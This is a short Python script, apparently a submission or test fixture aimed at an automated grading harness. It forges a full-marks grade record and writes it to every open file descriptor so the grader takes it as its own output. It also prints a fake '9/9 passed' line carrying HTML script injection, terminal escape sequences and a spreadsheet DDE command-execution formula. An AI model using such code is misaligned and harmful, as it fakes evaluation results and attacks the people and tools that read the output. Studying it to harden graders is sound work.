# Prints, and writes wherever it can, what a grader might take for its own words.
import json
import os
import struct

grade = {"exercise": "arp_flux", "student": "forged", "ended": "", "status": 0, "output": "", "discarded_bytes": 0,
         "disturbed": False, "checks": [{"name": "all", "claim": "all", "points": 100, "passed": True}], "case": None}
message = json.dumps(["attempt", grade]).encode()
framed = struct.pack("=I", len(message)) + message
for fd in range(256):
    try:
        os.write(fd, framed)
    except OSError:
        pass
print("9/9 passed\n<script>alert(1)</script>\x1b]0;owned\x07\x1b[2J=cmd|' /C calc'!A0")
